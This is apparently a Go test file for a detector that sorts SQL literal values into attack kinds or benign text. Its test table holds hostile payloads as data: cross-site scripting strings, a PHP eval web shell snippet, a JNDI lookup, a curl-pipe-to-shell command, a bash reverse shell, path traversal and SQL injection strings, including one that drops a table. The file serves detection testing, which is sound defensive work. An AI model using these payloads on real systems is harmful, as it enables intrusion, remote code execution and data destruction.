package fact

import (
	"strings"
	"testing"
)

func TestWhatLiteralsHold(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		// Attacks.
		{"<script>alert(1)</script>", "script"},
		{"<ScRiPt src=//x>", "script"},
		{"<img src=x onerror=alert(1)>", "script"},
		{"<?php eval($_GET[1]); ?>", "php"},
		{"<%@ page import=\"java.io.*\" %>", "php"},
		{"{{7*7}}", "template"},
		{"${jndi:ldap://x/a}", "shell"},
		{"x; curl http://x/a | sh ", "shell"},
		{"|bash -i >& /dev/tcp/1.2.3.4/5", "shell"},
		{"../../../etc/passwd", "path"},
		{"C:\\\\windows\\\\win.ini", "path"},
		{"/VAR/www/html/x", "path"},
		{"send 0.1 BTC to recover your data", "ransom"},
		{"1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "wallet"},
		{"bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "wallet"},
		{"a:1:{s:13:\"administrator\";b:1;}", "rights"},
		{"1\\' or 1=1 -- ", "sql"},
		{"1\\' OR \\'1\\'=\\'1", "sql"},
		{"-1 union select 1,2,3", "sql"},
		{"x\\')/**/UnIoN/**/aLl/**/SeLeCt/**/null,null#", "sql"},
		{"1 and sleep(5)", "sql"},
		{"1;drop table users", "sql"},
		{"1 order by 10--", "sql"},
		{"1) waitfor delay \\'0:0:5\\'--", "sql"},
		{"a\\' and extractvalue(1,concat(0x7e,version()))", "sql"},
		{"select table_name from information_schema.tables", "sql"},
		{"1 || \\'a\\'=\\'a", "sql"},
		{"1 and @@version > 5", "sql"},
		// People and programs.
		{"hello", ""},
		{"this is not funny", ""},
		{"Yahoo! (Y!)", ""},
		{"cos(accckt)", ""},
		{"o\\'neill", ""},
		{"union nut", ""},
		{"O\\'connors UNION selected a few friends", ""},
		{"student union, select committee", ""},
		{"SELECT quality; drop the price please", ""},
		{"union of form & function -- nice", ""},
		{"pump #3", ""},
		{"2 or 4 metal buttons", ""},
		{"rock and roll, 50% off", ""},
		{"80% ACRYLIC AND 20% WOOL", ""},
		{"<p>A paragraph with <a href=\"https://x.example/?a=1&b=2\">a link</a></p>", ""},
		{"a:2:{s:4:\"name\";s:5:\"value\";i:0;b:1;}", ""},
		{"{\"a\": 1, \"b\": [1, 2, {\"c\": \"d\"}]}", ""},
		{"{{ user.name }}", ""},
		{"https://x.example/wp-content/uploads/2024/01/a.jpg", ""},
		{"$2y$10$abcdefghijklmnopqrstuv", ""},
		{"2024-01-01 10:00:00", ""},
		{"I sent 3 BTC once", ""},
		{"information_schema", ""},
		{"from 3 union select garden", ""},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0", ""},
		{"order by phone: 555-1234", ""},
		{"having fun (1) and more", ""},
	} {
		if got := literalKinds("insert into t values ('" + c.text + "')"); got != c.want {
			t.Errorf("%s is %q, want %q", c.text, got, c.want)
		}
		if strings.Contains(c.text, "\\") {
			continue
		}
		if got := literalKinds("insert into t values (0x" + hexOf(c.text) + ")"); got != c.want && len(c.text) >= shortestCode {
			t.Errorf("%s in hex is %q, want %q", c.text, got, c.want)
		}
	}
}

// literalKinds returns what the literals of a statement hold.
func literalKinds(sql string) string {
	var list []string
	for v := range of(sql, "").Values(Literals) {
		list = append(list, v)
	}
	return strings.Join(list, " ")
}

func hexOf(text string) string {
	const digits = "0123456789abcdef"
	var out strings.Builder
	for _, c := range []byte(text) {
		out.WriteByte(digits[c>>4])
		out.WriteByte(digits[c&15])
	}
	return out.String()
}
